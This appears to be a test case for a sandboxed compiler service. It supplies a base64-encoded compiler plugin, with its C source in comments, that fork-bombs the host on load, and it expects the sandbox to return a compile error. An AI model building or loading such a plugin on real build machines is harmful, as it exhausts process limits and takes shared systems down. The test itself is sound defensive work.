//= attack = "A plugin of the compiler (-fplugin) that is a fork bomb as soon as it is loaded: processes up to the limit, all asleep, and then its end."
//= verdict = "compile_error"
//= compile = "compile_error"
//= compile_args = ["-fplugin=./plugin.so"]
//= files."plugin.so" = { base64 = """\
//= f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAAAAAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAAEAAAAAAAAAAEAAAAFAAAAAAAA\
//= AAAAAAAAAAAAAAAAAAAAAAAAAAAAoAEAAAAAAACgAQAAAAAAAAAQAAAAAAAAAQAAAAYAAACgAQAAAAAAAKARAAAAAAAAoBEAAAAA\
//= AAAIAQAAAAAAAAgBAAAAAAAAABAAAAAAAAACAAAABgAAAKgBAAAAAAAAqBEAAAAAAACoEQAAAAAAAAABAAAAAAAAAAEAAAAAAAAI\
//= AAAAAAAAAFHldGQGAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABAAAAAAAAAAAQAAAAEAAAAAAAAA\
//= AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAoBEAAAAAAAAIAAAAAAAAAGgBAAAAAAAAujkAAAAx9kiJ0EiJ9w8F\
//= SIXAdQ66IgAAADH/SInQDwXr+XnjuOcAAAC/AQAAAA8F69UAAAAAAABoAQAAAAAAABkAAAAAAAAAoBEAAAAAAAAbAAAAAAAAAAgA\
//= AAAAAAAABAAAAAAAAAAgAQAAAAAAAAUAAAAAAAAASAEAAAAAAAAGAAAAAAAAADABAAAAAAAACgAAAAAAAAABAAAAAAAAAAsAAAAA\
//= AAAAGAAAAAAAAAAHAAAAAAAAAFABAAAAAAAACAAAAAAAAAAYAAAAAAAAAAkAAAAAAAAAGAAAAAAAAAD5//9vAAAAAAEAAAAAAAAA\
//= AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
//= AAAAAAA=\
//= """ }

// plugin.so holds no more than this, for x86_64; elsewhere it cannot be loaded, which is an error as well:
//   static long call(long number, long argument) {
//     long result;
//     __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(argument) : "rcx", "r11", "memory");
//     return result;
//   }
//   __attribute__((constructor)) static void bomb(void) {
//     for (;;) {
//       long pid = call(SYS_fork, 0);
//       if (pid == 0) for (;;) call(SYS_pause, 0);
//       if (pid < 0) call(SYS_exit_group, 1);
//     }
//   }
int main(void) {
}
